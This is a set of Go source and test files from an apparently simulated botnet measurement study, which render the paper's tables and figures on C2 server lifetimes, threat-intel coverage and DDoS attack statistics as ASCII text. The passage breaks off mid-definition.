	b.WriteString("\n")
	b.WriteString(results.NewFigure4(st).Render())

	got := b.String()
	path := filepath.Join("testdata", "faulted_study.golden")
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("rewrote %s (%d bytes)", path, len(got))
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("reading golden file (rerun with -update to create it): %v", err)
	}
	if got == string(want) {
		return
	}
	gotLines := strings.Split(got, "\n")
	wantLines := strings.Split(string(want), "\n")
	for i := 0; i < len(gotLines) && i < len(wantLines); i++ {
		if gotLines[i] != wantLines[i] {
			t.Fatalf("golden mismatch at line %d:\nwant: %s\ngot:  %s\n(rerun with -update if intentional)",
				i+1, wantLines[i], gotLines[i])
		}
	}
	t.Fatalf("golden mismatch: line counts differ, want %d got %d (rerun with -update if intentional)",
		len(wantLines), len(gotLines))
}

// TestGoldenMetricsSection pins the report's deterministic metrics
// section: a small faulted study's obs registry, rendered through
// results.NewMetricsSection, must match the committed golden bytes.
// Worker count is part of the fixture on purpose — the snapshot is
// identical at any value, so the golden doubles as a determinism
// check. Rerun with -update to accept a deliberate schema change:
//
//	go test ./internal/report/ -run TestGoldenMetricsSection -update
func TestGoldenMetricsSection(t *testing.T) {
	wcfg := world.DefaultConfig(7)
	wcfg.TotalSamples = 60
	scfg := core.DefaultStudyConfig(7)
	scfg.Analysis.ProbeRounds = 2
	scfg.Determinism.Workers = 4
	scfg.Determinism.Faults = true
	scfg.Determinism.FaultSeed = 1007
	scfg.Observability.Obs = obs.NewObserver()
	st := core.RunStudy(world.Generate(wcfg), scfg)

	got := results.NewMetricsSection(st).Render()
	path := filepath.Join("testdata", "metrics_section.golden")
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("rewrote %s (%d bytes)", path, len(got))
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("reading golden file (rerun with -update to create it): %v", err)
	}
	if got == string(want) {
		return
	}
	gotLines := strings.Split(got, "\n")
	wantLines := strings.Split(string(want), "\n")
	for i := 0; i < len(gotLines) && i < len(wantLines); i++ {
		if gotLines[i] != wantLines[i] {
			t.Fatalf("golden mismatch at line %d:\nwant: %s\ngot:  %s\n(rerun with -update if intentional)",
				i+1, wantLines[i], gotLines[i])
		}
	}
	t.Fatalf("golden mismatch: line counts differ, want %d got %d (rerun with -update if intentional)",
		len(wantLines), len(gotLines))
}
