// Package report renders the study's tables and figures as text:
// aligned ASCII tables, CDF step listings, bar charts and the weekly
// heatmap — the same rows and series the paper prints, regenerable
// from any terminal.
package report

import (
	"fmt"
	"strings"

	"malnet/internal/analysis"
)

// Table renders rows with aligned columns under a header.
func Table(title string, header []string, rows [][]string) string {
	var sb strings.Builder
	widths := make([]int, len(header))
	for i, h := range header {
		widths[i] = len(h)
	}
	for _, row := range rows {
		for i, cell := range row {
			if i < len(widths) && len(cell) > widths[i] {
				widths[i] = len(cell)
			}
		}
	}
	line := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				sb.WriteString("  ")
			}
			sb.WriteString(c)
			if pad := widths[i] - len(c); pad > 0 && i < len(cells)-1 {
				sb.WriteString(strings.Repeat(" ", pad))
			}
		}
		sb.WriteByte('\n')
	}
	if title != "" {
		sb.WriteString(title)
		sb.WriteByte('\n')
	}
	line(header)
	sep := make([]string, len(header))
	for i := range sep {
		sep[i] = strings.Repeat("-", widths[i])
	}
	line(sep)
	for _, row := range rows {
		line(row)
	}
	return sb.String()
}

// CDFText renders a CDF as percentile markers plus summary stats.
func CDFText(title string, c *analysis.CDF, unit string) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%s (n=%d)\n", title, c.N())
	if c.N() == 0 {
		return sb.String()
	}
	for _, p := range []float64{0.10, 0.25, 0.50, 0.75, 0.80, 0.90, 0.95, 1.00} {
		fmt.Fprintf(&sb, "  P%-3.0f <= %.1f %s\n", p*100, c.Percentile(p), unit)
	}
	fmt.Fprintf(&sb, "  mean = %.2f %s, max = %.1f %s\n", c.Mean(), unit, c.Max(), unit)
	return sb.String()
}

// Bars renders a horizontal bar chart of labeled counts.
func Bars(title string, entries []analysis.Entry, width int) string {
	if width <= 0 {
		width = 40
	}
	max := 0
	labelW := 0
	for _, e := range entries {
		if e.Count > max {
			max = e.Count
		}
		if len(e.Label) > labelW {
			labelW = len(e.Label)
		}
	}
	var sb strings.Builder
	if title != "" {
		sb.WriteString(title)
		sb.WriteByte('\n')
	}
	for _, e := range entries {
		n := 0
		if max > 0 {
			n = e.Count * width / max
		}
		fmt.Fprintf(&sb, "  %-*s %4d %s\n", labelW, e.Label, e.Count, strings.Repeat("#", n))
	}
	return sb.String()
}

// heatRunes maps intensity to glyphs, light to dark.
var heatRunes = []rune(" .:-=+*#%@")

// Heatmap renders a grid with single-character intensity cells
// (Figure 1's weekly AS activity view).
func Heatmap(title string, g *analysis.Grid) string {
	var sb strings.Builder
	if title != "" {
		sb.WriteString(title)
		sb.WriteByte('\n')
	}
	max := g.Max()
	labelW := 0
	for _, r := range g.Rows {
		if len(r) > labelW {
			labelW = len(r)
		}
	}
	for _, row := range g.Rows {
		fmt.Fprintf(&sb, "  %-*s |", labelW, row)
		for _, col := range g.Cols {
			v := g.At(row, col)
			idx := 0
			if max > 0 && v > 0 {
				idx = 1 + v*(len(heatRunes)-2)/max
				if idx >= len(heatRunes) {
					idx = len(heatRunes) - 1
				}
			}
			sb.WriteRune(heatRunes[idx])
		}
		fmt.Fprintf(&sb, "| %d\n", g.RowTotal(row))
	}
	return sb.String()
}

// Raster renders a boolean matrix (Figure 4's probe responses) with
// one row per server.
func Raster(title string, rows [][]bool, rowLabels []string) string {
	var sb strings.Builder
	if title != "" {
		sb.WriteString(title)
		sb.WriteByte('\n')
	}
	labelW := 0
	for _, l := range rowLabels {
		if len(l) > labelW {
			labelW = len(l)
		}
	}
	for i, row := range rows {
		label := ""
		if i < len(rowLabels) {
			label = rowLabels[i]
		}
		fmt.Fprintf(&sb, "  %-*s |", labelW, label)
		for _, v := range row {
			if v {
				sb.WriteByte('#')
			} else {
				sb.WriteByte('.')
			}
		}
		sb.WriteString("|\n")
	}
	return sb.String()
}

// KV renders aligned key: value lines for scalar findings.
func KV(title string, pairs [][2]string) string {
	var sb strings.Builder
	if title != "" {
		sb.WriteString(title)
		sb.WriteByte('\n')
	}
	w := 0
	for _, p := range pairs {
		if len(p[0]) > w {
			w = len(p[0])
		}
	}
	for _, p := range pairs {
		fmt.Fprintf(&sb, "  %-*s : %s\n", w, p[0], p[1])
	}
	return sb.String()
}
