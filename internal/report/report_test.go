package report

import (
	"strings"
	"testing"

	"malnet/internal/analysis"
)

func TestTableAlignsColumns(t *testing.T) {
	out := Table("T", []string{"A", "LongHeader"}, [][]string{
		{"x", "1"},
		{"longer-cell", "22"},
	})
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	if len(lines) != 5 { // title, header, separator, 2 rows
		t.Fatalf("lines = %d:\n%s", len(lines), out)
	}
	if !strings.HasPrefix(lines[0], "T") {
		t.Fatalf("title missing: %q", lines[0])
	}
	// The second column must start at the same offset on each row.
	idx := strings.Index(lines[1], "LongHeader")
	if strings.Index(lines[3], "1") != idx && !strings.Contains(lines[3], "1") {
		t.Fatalf("misaligned:\n%s", out)
	}
	if !strings.Contains(lines[2], "---") {
		t.Fatalf("separator missing: %q", lines[2])
	}
}

func TestCDFTextStats(t *testing.T) {
	c := analysis.NewCDF([]float64{1, 1, 1, 1, 10})
	out := CDFText("lifetimes", c, "days")
	for _, want := range []string{"lifetimes (n=5)", "P50", "mean = 2.80 days", "max = 10.0 days"} {
		if !strings.Contains(out, want) {
			t.Fatalf("missing %q in:\n%s", want, out)
		}
	}
}

func TestCDFTextEmpty(t *testing.T) {
	out := CDFText("empty", analysis.NewCDF(nil), "x")
	if !strings.Contains(out, "(n=0)") {
		t.Fatalf("out = %q", out)
	}
}

func TestBarsScaleToWidth(t *testing.T) {
	out := Bars("chart", []analysis.Entry{{Label: "big", Count: 100}, {Label: "half", Count: 50}}, 20)
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	big := strings.Count(lines[1], "#")
	half := strings.Count(lines[2], "#")
	if big != 20 || half != 10 {
		t.Fatalf("bars = %d / %d, want 20 / 10\n%s", big, half, out)
	}
}

func TestBarsZeroCounts(t *testing.T) {
	out := Bars("z", []analysis.Entry{{Label: "none", Count: 0}}, 10)
	if strings.Count(out, "#") != 0 {
		t.Fatalf("zero count drew bars: %q", out)
	}
}

func TestHeatmapIntensities(t *testing.T) {
	g := analysis.NewGrid([]string{"r"}, []string{"a", "b", "c"})
	g.Add("r", "a", 0)
	g.Add("r", "b", 5)
	g.Add("r", "c", 10)
	out := Heatmap("h", g)
	if !strings.Contains(out, "| 15") { // row total
		t.Fatalf("row total missing:\n%s", out)
	}
	// The zero cell renders as space, the max as the darkest rune.
	row := strings.Split(out, "\n")[1]
	cells := row[strings.Index(row, "|")+1 : strings.LastIndex(row, "|")]
	if len(cells) != 3 {
		t.Fatalf("cells = %q", cells)
	}
	if cells[0] != ' ' {
		t.Fatalf("zero cell = %q", cells[0])
	}
	if cells[2] != '@' {
		t.Fatalf("max cell = %q", cells[2])
	}
}

func TestRasterMarks(t *testing.T) {
	out := Raster("r", [][]bool{{true, false, true}}, []string{"srv"})
	if !strings.Contains(out, "|#.#|") {
		t.Fatalf("raster = %q", out)
	}
}

func TestKVAlignment(t *testing.T) {
	out := KV("facts", [][2]string{{"a", "1"}, {"longer key", "2"}})
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	if !strings.Contains(lines[1], "a          :") {
		t.Fatalf("key not padded: %q", lines[1])
	}
}
