package results

import (
	"fmt"

	"malnet/internal/core"
	"malnet/internal/report"
	"malnet/internal/simnet"
)

// FaultSummary aggregates the robustness counters a faulted study
// produces: per-sample dispositions, the C2 re-dial and probe-retry
// totals, and every injected network fault the pipeline absorbed. On
// a clean study all counters are zero except the alive/dead split.
type FaultSummary struct {
	// Dispositions counts D-Samples rows per liveness disposition,
	// keyed by Disposition.String() so the summary serializes
	// readably.
	Dispositions map[string]int `json:"dispositions"`
	// C2Retries totals failed C2 dial attempts across samples.
	C2Retries int `json:"c2_retries"`
	// TimedOut counts watchdog-aborted samples (same figure as the
	// DispTimedOut bucket, surfaced for headlines).
	TimedOut int `json:"timed_out"`
	// ProbesSent / ProbeRetries total the weaponized sweeps' dials
	// and re-dials.
	ProbesSent   int `json:"probes_sent"`
	ProbeRetries int `json:"probe_retries"`
	// Faults sums injected faults over every sample's sandbox
	// windows.
	Faults simnet.FaultStats `json:"faults"`
	// WorldFaults are the faults injected on the shared world
	// network (probing, live windows, background traffic).
	WorldFaults simnet.FaultStats `json:"world_faults"`
}

// NewFaultSummary computes the robustness counters of a study.
func NewFaultSummary(st *core.Study) FaultSummary {
	s := FaultSummary{Dispositions: map[string]int{}}
	for _, rec := range st.Samples {
		s.Dispositions[rec.Disposition.String()]++
		s.C2Retries += rec.C2Retries
		s.Faults = s.Faults.Add(rec.Faults)
		if rec.Disposition == core.DispTimedOut {
			s.TimedOut++
		}
	}
	for _, ps := range []*core.ProbeStudy{st.Probe, st.ProbeGafgyt} {
		if ps != nil {
			s.ProbesSent += ps.ProbesSent
			s.ProbeRetries += ps.Retries
		}
	}
	if st.W != nil && st.W.Net != nil {
		s.WorldFaults = st.W.Net.FaultStats()
	}
	return s
}

// Render prints the summary as a key-value block.
func (s FaultSummary) Render() string {
	pairs := [][2]string{}
	for d := core.DispNone; d <= core.DispTimedOut; d++ {
		pairs = append(pairs, [2]string{"samples " + d.String(), fmt.Sprint(s.Dispositions[d.String()])})
	}
	pairs = append(pairs,
		[2]string{"C2 re-dials", fmt.Sprint(s.C2Retries)},
		[2]string{"probes sent", fmt.Sprint(s.ProbesSent)},
		[2]string{"probe retries", fmt.Sprint(s.ProbeRetries)},
		[2]string{"faults in sandboxes", fmt.Sprint(s.Faults.Total())},
		[2]string{"faults on world net", fmt.Sprint(s.WorldFaults.Total())},
		[2]string{"SYNs dropped", fmt.Sprint(s.Faults.SYNsDropped + s.WorldFaults.SYNsDropped)},
		[2]string{"segments dropped", fmt.Sprint(s.Faults.SegmentsDropped + s.WorldFaults.SegmentsDropped)},
		[2]string{"resets injected", fmt.Sprint(s.Faults.ResetsInjected + s.WorldFaults.ResetsInjected)},
		[2]string{"latency spikes", fmt.Sprint(s.Faults.LatencySpikes + s.WorldFaults.LatencySpikes)},
		[2]string{"blackout drops", fmt.Sprint(s.Faults.Blackouts + s.WorldFaults.Blackouts)},
		[2]string{"slow drips", fmt.Sprint(s.Faults.SlowDrips + s.WorldFaults.SlowDrips)},
	)
	return report.KV("Fault injection & robustness", pairs)
}
