package results

import (
	"fmt"
	"strconv"

	"malnet/internal/analysis"
	"malnet/internal/c2"
	"malnet/internal/core"
	"malnet/internal/geo"
	"malnet/internal/intel"
	"malnet/internal/report"
	"malnet/internal/world"
)

// Figure1 is the weekly C2-activity heatmap across the top ASes.
type Figure1 struct {
	Grid *analysis.Grid
}

// NewFigure1 counts per-week C2 observations for the ten most active
// ASes.
func NewFigure1(st *core.Study) Figure1 {
	// Rank ASes by total C2 activity first.
	totals := analysis.NewHistogram()
	for _, s := range st.Samples {
		for _, cand := range s.C2s {
			if as, ok := st.W.Geo.Lookup(cand.IP); ok {
				totals.Add(as.Name, 1)
			}
		}
	}
	var rows []string
	for i, e := range totals.Sorted() {
		if i == 10 {
			break
		}
		rows = append(rows, e.Label)
	}
	var cols []string
	for _, w := range world.Calendar() {
		cols = append(cols, strconv.Itoa(w.Num))
	}
	g := analysis.NewGrid(rows, cols)
	for _, s := range st.Samples {
		week := world.WeekOf(s.Date)
		if week == 0 {
			continue
		}
		for _, cand := range s.C2s {
			if as, ok := st.W.Geo.Lookup(cand.IP); ok {
				g.Add(as.Name, strconv.Itoa(week), 1)
			}
		}
	}
	return Figure1{Grid: g}
}

// Render prints the heatmap.
func (f Figure1) Render() string {
	return report.Heatmap("Figure 1: weekly C2 activity across top-10 ASes (weeks 1-31)", f.Grid)
}

// lifetimeCDF builds the observed-lifespan CDF for one address kind.
func lifetimeCDF(st *core.Study, kind intel.AddrKind) *analysis.CDF {
	var days []float64
	for _, r := range st.C2s {
		if r.Kind == kind {
			days = append(days, r.LifespanDays())
		}
	}
	return analysis.NewCDF(days)
}

// Figure2 is the C2 IP lifetime CDF.
type Figure2 struct{ CDF *analysis.CDF }

// NewFigure2 builds it from D-C2s.
func NewFigure2(st *core.Study) Figure2 {
	return Figure2{CDF: lifetimeCDF(st, intel.KindIP)}
}

// OneDayShare is the §3.2 "80% have a one-day observed lifespan".
func (f Figure2) OneDayShare() float64 { return f.CDF.At(1.0) }

// Render prints the CDF.
func (f Figure2) Render() string {
	return report.CDFText("Figure 2: CDF of C2 IP observed lifetime", f.CDF, "days")
}

// Figure3 is the C2 domain lifetime CDF.
type Figure3 struct{ CDF *analysis.CDF }

// NewFigure3 builds it from DNS-kind records.
func NewFigure3(st *core.Study) Figure3 {
	return Figure3{CDF: lifetimeCDF(st, intel.KindDNS)}
}

// Render prints the CDF.
func (f Figure3) Render() string {
	return report.CDFText("Figure 3: CDF of C2 domain observed lifetime", f.CDF, "days")
}

// Figure4 is the probe-response raster.
type Figure4 struct {
	Targets []*core.ProbeTarget
	// SecondProbeMiss is the §3.2 "91%" headline, measured over
	// the merged target set.
	SecondProbeMiss float64
	Pairs           int
	MaxDailyStreak  int
}

// NewFigure4 merges the two weaponized sweeps.
func NewFigure4(st *core.Study) Figure4 {
	f := Figure4{Targets: st.MergedLiveC2s()}
	var after, miss int
	perDay := 6
	best := 0
	for _, t := range f.Targets {
		run := 0
		for i := range t.Outcomes {
			engaged := t.Outcomes[i] == core.ProbeEngaged
			if engaged {
				run++
				if i%perDay == 0 {
					run = 1
				}
				if run > best {
					best = run
				}
			} else {
				run = 0
			}
			if i+1 < len(t.Outcomes) && engaged {
				after++
				if t.Outcomes[i+1] != core.ProbeEngaged {
					miss++
				}
			}
		}
	}
	if after > 0 {
		f.SecondProbeMiss = float64(miss) / float64(after)
	}
	f.Pairs = after
	f.MaxDailyStreak = best
	return f
}

// Render prints the raster plus the headline stats.
func (f Figure4) Render() string {
	rows := make([][]bool, len(f.Targets))
	labels := make([]string, len(f.Targets))
	for i, t := range f.Targets {
		labels[i] = t.Addr.String()
		rows[i] = make([]bool, len(t.Outcomes))
		for j, o := range t.Outcomes {
			rows[i][j] = o == core.ProbeEngaged
		}
	}
	out := report.Raster("Figure 4: C2 probe responses (rows: servers, cols: probes)", rows, labels)
	out += fmt.Sprintf("second-probe miss rate: %s over %d success pairs; max same-day streak: %d\n",
		analysis.FmtPct(f.SecondProbeMiss), f.Pairs, f.MaxDailyStreak)
	return out
}

// samplesPerC2CDF builds the distinct-binaries-per-C2 CDF for a
// kind.
func samplesPerC2CDF(st *core.Study, kind intel.AddrKind) *analysis.CDF {
	var counts []float64
	for _, r := range st.C2s {
		if r.Kind == kind {
			distinct := map[string]bool{}
			for _, sha := range r.Samples {
				distinct[sha] = true
			}
			counts = append(counts, float64(len(distinct)))
		}
	}
	return analysis.NewCDF(counts)
}

// Figure5 is the binaries-per-C2-IP CDF.
type Figure5 struct{ CDF *analysis.CDF }

// NewFigure5 builds it.
func NewFigure5(st *core.Study) Figure5 {
	return Figure5{CDF: samplesPerC2CDF(st, intel.KindIP)}
}

// SingleShare is the share of C2 IPs used by exactly one binary.
func (f Figure5) SingleShare() float64 { return f.CDF.At(1.0) }

// Render prints the CDF.
func (f Figure5) Render() string {
	return report.CDFText("Figure 5: CDF of distinct binaries per C2 IP", f.CDF, "binaries")
}

// Figure6 is the binaries-per-C2-domain CDF.
type Figure6 struct{ CDF *analysis.CDF }

// NewFigure6 builds it.
func NewFigure6(st *core.Study) Figure6 {
	return Figure6{CDF: samplesPerC2CDF(st, intel.KindDNS)}
}

// Render prints the CDF.
func (f Figure6) Render() string {
	return report.CDFText("Figure 6: CDF of distinct binaries per C2 domain", f.CDF, "binaries")
}

// Figure7 is the vendors-per-C2 CDF.
type Figure7 struct{ CDF *analysis.CDF }

// NewFigure7 builds the CDF of flagging-vendor counts (May-7 query)
// over flagged C2s.
func NewFigure7(st *core.Study) Figure7 {
	var counts []float64
	for _, r := range st.C2s {
		if r.May7Vendors > 0 {
			counts = append(counts, float64(r.May7Vendors))
		}
	}
	return Figure7{CDF: analysis.NewCDF(counts)}
}

// LowCoverageShare is the §3.3 "25% of known C2s reported by one or
// two feeds".
func (f Figure7) LowCoverageShare() float64 { return f.CDF.At(2.0) }

// Render prints the CDF.
func (f Figure7) Render() string {
	return report.CDFText("Figure 7: CDF of vendors flagging a known C2", f.CDF, "vendors")
}

// Figure8 is the per-vulnerability daily exploitation series.
type Figure8 struct {
	// Series maps vulnerability key -> day offset (from study
	// start) -> distinct binaries.
	Series map[string]map[int]int
	Days   int
}

// NewFigure8 buckets exploit findings by vulnerability and day.
func NewFigure8(st *core.Study) Figure8 {
	f := Figure8{Series: map[string]map[int]int{}}
	start := world.StudyStart()
	for _, finding := range st.Exploits {
		day := int(finding.Date.Sub(start).Hours() / 24)
		if day >= f.Days {
			f.Days = day + 1
		}
		for _, v := range finding.Vulns {
			if f.Series[v.Key] == nil {
				f.Series[v.Key] = map[int]int{}
			}
			f.Series[v.Key][day]++
		}
	}
	return f
}

// Render prints per-vulnerability activity summaries.
func (f Figure8) Render() string {
	out := "Figure 8: binaries per day per vulnerability\n"
	for _, key := range sortedKeys(f.Series) {
		days := f.Series[key]
		total, peak, active := 0, 0, 0
		for _, n := range days {
			total += n
			active++
			if n > peak {
				peak = n
			}
		}
		out += fmt.Sprintf("  %-16s active on %3d days, %3d findings, peak %d/day\n", key, active, total, peak)
	}
	return out
}

func sortedKeys[V any](m map[string]V) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	for i := 1; i < len(keys); i++ {
		for j := i; j > 0 && keys[j] < keys[j-1]; j-- {
			keys[j], keys[j-1] = keys[j-1], keys[j]
		}
	}
	return keys
}

// Figure9 is the loader-filename frequency chart.
type Figure9 struct{ Loaders *analysis.Histogram }

// NewFigure9 counts loader names across exploit findings (distinct
// per sample).
func NewFigure9(st *core.Study) Figure9 {
	h := analysis.NewHistogram()
	seen := map[string]bool{}
	for _, f := range st.Exploits {
		key := f.SHA256 + "/" + f.Loader
		if f.Loader == "" || seen[key] {
			continue
		}
		seen[key] = true
		h.Add(f.Loader, 1)
	}
	return Figure9{Loaders: h}
}

// Render prints the bar chart.
func (f Figure9) Render() string {
	return report.Bars("Figure 9: loader filename frequency", f.Loaders.Sorted(), 30)
}

// AttackProto classifies an observation into Figure 10's buckets.
func AttackProto(o core.DDoSObservation) string {
	p := o.Command.Attack.TargetProto()
	if o.Command.Attack == c2.AttackTLS && o.Command.TCPTransport {
		p = "TCP"
	}
	if p == "UDP" && o.Command.Port == 53 {
		p = "DNS"
	}
	return p
}

// Figure10 is the attack-protocol distribution.
type Figure10 struct{ Protos *analysis.Histogram }

// NewFigure10 buckets D-DDOS by target protocol.
func NewFigure10(st *core.Study) Figure10 {
	h := analysis.NewHistogram()
	for _, o := range st.DDoS {
		h.Add(AttackProto(o), 1)
	}
	return Figure10{Protos: h}
}

// UDPShare is the §5.2 headline (74 %).
func (f Figure10) UDPShare() float64 { return f.Protos.Share("UDP") }

// Render prints the distribution.
func (f Figure10) Render() string {
	out := report.Bars("Figure 10: DDoS attacks by target protocol", f.Protos.Sorted(), 30)
	out += fmt.Sprintf("UDP share: %s\n", analysis.FmtPct(f.UDPShare()))
	return out
}

// Figure11 is the attack-type x family distribution.
type Figure11 struct {
	// Grid rows are families, columns attack types.
	Grid *analysis.Grid
	// Types is the number of distinct attack types observed.
	Types int
}

// NewFigure11 buckets D-DDOS by family and attack type.
func NewFigure11(st *core.Study) Figure11 {
	famOf := map[string]string{}
	for _, s := range st.Samples {
		famOf[s.SHA] = s.Family
	}
	var types []string
	for a := c2.AttackUDPFlood; a <= c2.AttackNFO; a++ {
		types = append(types, a.String())
	}
	g := analysis.NewGrid([]string{"mirai", "gafgyt", "daddyl33t"}, types)
	seen := map[string]bool{}
	for _, o := range st.DDoS {
		g.Add(famOf[o.SHA256], o.Command.Attack.String(), 1)
		seen[o.Command.Attack.String()] = true
	}
	return Figure11{Grid: g, Types: len(seen)}
}

// Render prints the per-family breakdown.
func (f Figure11) Render() string {
	rows := make([][]string, 0, len(f.Grid.Rows))
	for _, fam := range f.Grid.Rows {
		row := []string{fam}
		for _, typ := range f.Grid.Cols {
			row = append(row, strconv.Itoa(f.Grid.At(fam, typ)))
		}
		row = append(row, strconv.Itoa(f.Grid.RowTotal(fam)))
		rows = append(rows, row)
	}
	header := append([]string{"Family"}, f.Grid.Cols...)
	header = append(header, "Total")
	out := report.Table("Figure 11: attack types by family", header, rows)
	out += fmt.Sprintf("distinct attack types observed: %d\n", f.Types)
	return out
}

// Figure12 is the DDoS-target geography.
type Figure12 struct {
	// ByType counts target ASes per category.
	ByType *analysis.Histogram
	// Countries counts distinct target countries.
	Countries int
	// TargetASes is the distinct AS count (paper: 23).
	TargetASes int
	// GamingShare is the share of gaming-specialized target ASes.
	GamingShare float64
	// Named lists notable business victims (Google, Amazon,
	// Roblox).
	Named []string
}

// NewFigure12 resolves attack targets against the AS registry.
func NewFigure12(st *core.Study) Figure12 {
	f := Figure12{ByType: analysis.NewHistogram()}
	asSeen := map[int]*geo.AS{}
	countries := map[string]bool{}
	for _, o := range st.DDoS {
		as, ok := st.W.Geo.Lookup(o.Command.Target)
		if !ok {
			continue
		}
		asSeen[as.ASN] = as
		countries[as.Country] = true
	}
	gaming := 0
	for _, as := range asSeen {
		f.ByType.Add(as.Type.String(), 1)
		if as.Gaming {
			gaming++
		}
		switch as.Name {
		case "Google LLC", "Amazon.com Inc", "Roblox":
			f.Named = append(f.Named, as.Name)
		}
	}
	f.TargetASes = len(asSeen)
	f.Countries = len(countries)
	if f.TargetASes > 0 {
		f.GamingShare = float64(gaming) / float64(f.TargetASes)
	}
	sortStrings(f.Named)
	return f
}

func sortStrings(s []string) {
	for i := 1; i < len(s); i++ {
		for j := i; j > 0 && s[j] < s[j-1]; j-- {
			s[j], s[j-1] = s[j-1], s[j]
		}
	}
}

// Render prints the target-AS summary.
func (f Figure12) Render() string {
	out := report.Bars("Figure 12: DDoS target ASes by type", f.ByType.Sorted(), 30)
	out += fmt.Sprintf("target ASes: %d across %d countries; gaming-specialized: %s; named victims: %v\n",
		f.TargetASes, f.Countries, analysis.FmtPct(f.GamingShare), f.Named)
	return out
}

// Figure13 is the cumulative C2 share over ranked ASes.
type Figure13 struct {
	// Cumulative[i] is the C2 share covered by the top i+1 ASes.
	Cumulative []float64
	TotalASes  int
}

// NewFigure13 ranks ASes by hosted C2s.
func NewFigure13(st *core.Study) Figure13 {
	counts := analysis.NewHistogram()
	for _, r := range st.C2s {
		if as, ok := st.W.Geo.Lookup(r.IP); ok {
			counts.Add(as.Name, 1)
		}
	}
	total := counts.Total()
	var f Figure13
	acc := 0
	for _, e := range counts.Sorted() {
		acc += e.Count
		f.Cumulative = append(f.Cumulative, float64(acc)/float64(total))
	}
	f.TotalASes = len(f.Cumulative)
	return f
}

// Render prints milestone coverage points.
func (f Figure13) Render() string {
	out := fmt.Sprintf("Figure 13: cumulative C2 share by AS rank (%d ASes)\n", f.TotalASes)
	for _, k := range []int{1, 5, 10, 20, 50, 100} {
		if k <= len(f.Cumulative) {
			out += fmt.Sprintf("  top %-3d ASes cover %s\n", k, analysis.FmtPct(f.Cumulative[k-1]))
		}
	}
	return out
}
