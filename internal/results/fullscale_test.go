package results

import (
	"testing"

	"malnet/internal/core"
	"malnet/internal/world"
)

// TestFullScaleStudy is the long-haul check: the paper-scale
// pipeline run, asserted against the headline shapes. ~30 s; skipped
// with -short.
func TestFullScaleStudy(t *testing.T) {
	if testing.Short() {
		t.Skip("short mode")
	}
	w := world.Generate(world.DefaultConfig(42))
	st := core.RunStudy(w, core.DefaultStudyConfig(42))

	if len(st.Samples) != 1447 {
		t.Fatalf("samples = %d", len(st.Samples))
	}
	if len(st.C2s) < 950 || len(st.C2s) > 1300 {
		t.Fatalf("C2s = %d, want ~1160", len(st.C2s))
	}
	if len(st.DDoS) < 38 || len(st.DDoS) > 46 {
		t.Fatalf("DDoS commands = %d, want 42", len(st.DDoS))
	}

	h := NewHeadlines(st)
	if h.DeadC2Day0Share < 0.5 || h.DeadC2Day0Share > 0.7 {
		t.Fatalf("dead day-0 = %.3f, want ~0.60", h.DeadC2Day0Share)
	}
	if h.AttackC2MeanLifespanDays <= h.MeanLifespanDays {
		t.Fatalf("attack C2 lifespan %.1f <= overall %.1f (paper: ~10 vs 4)",
			h.AttackC2MeanLifespanDays, h.MeanLifespanDays)
	}
	if h.DistinctAttackC2s != 17 {
		t.Fatalf("attack C2s = %d, want 17", h.DistinctAttackC2s)
	}
	if h.ActivationRate < 0.84 || h.ActivationRate > 0.96 {
		t.Fatalf("activation rate = %.3f, want ~0.90 (§6f)", h.ActivationRate)
	}
	if h.DoubleAttackedShare < 0.15 || h.DoubleAttackedShare > 0.35 {
		t.Fatalf("double-attacked share = %.3f, want ~0.25", h.DoubleAttackedShare)
	}

	t3 := NewTable3(st)
	if t3.AllDay0 < 0.10 || t3.AllDay0 > 0.22 {
		t.Fatalf("day-0 TI miss = %.3f, want ~0.153", t3.AllDay0)
	}
	if t3.DNSDay0 <= t3.IPDay0 {
		t.Fatal("DNS miss must exceed IP miss (Table 3)")
	}

	f4 := NewFigure4(st)
	if len(f4.Targets) != 7 {
		t.Fatalf("probed live C2s = %d, want 7", len(f4.Targets))
	}
	if f4.SecondProbeMiss < 0.85 || f4.SecondProbeMiss > 0.97 {
		t.Fatalf("second-probe miss = %.3f, want ~0.91", f4.SecondProbeMiss)
	}
	if f4.MaxDailyStreak >= 6 {
		t.Fatalf("daily streak = %d (paper: never 6/6)", f4.MaxDailyStreak)
	}

	f10 := NewFigure10(st)
	if f10.UDPShare() < 0.65 || f10.UDPShare() > 0.85 {
		t.Fatalf("UDP share = %.3f, want ~0.74", f10.UDPShare())
	}

	f11 := NewFigure11(st)
	if f11.Types != 8 {
		t.Fatalf("attack types = %d, want 8", f11.Types)
	}
}
