package results

import (
	"fmt"
	"sort"

	"malnet/internal/analysis"
	"malnet/internal/core"
	"malnet/internal/report"
)

// Headlines are the scalar findings the paper highlights outside its
// tables and figures.
type Headlines struct {
	// DeadC2Day0Share: §3.2 "60% of the samples have a dead C2
	// server on that day".
	DeadC2Day0Share float64 `json:"dead_c2_day0_share"`
	// MeanLifespanDays / AttackC2MeanLifespanDays: §3.2's 4 days
	// vs §5's ~10 days for attack-launching C2s.
	MeanLifespanDays         float64 `json:"mean_lifespan_days"`
	AttackC2MeanLifespanDays float64 `json:"attack_c2_mean_lifespan_days"`
	// DistinctAttackC2s / AttackReceivers: §5's 17 servers and 20
	// binaries.
	DistinctAttackC2s int `json:"distinct_attack_c2s"`
	AttackReceivers   int `json:"attack_receivers"`
	// VerifiedCommands is the D-DDOS size after verification.
	VerifiedCommands int `json:"verified_commands"`
	// Downloaders: §3.1's 47 distinct addresses, 12 not C2s.
	Downloaders      int `json:"downloaders"`
	DownloadersNotC2 int `json:"downloaders_not_c2"`
	// Port80AttackShare / Port443AttackShare: §5.2's 21% and 7%.
	Port80AttackShare  float64 `json:"port80_attack_share"`
	Port443AttackShare float64 `json:"port443_attack_share"`
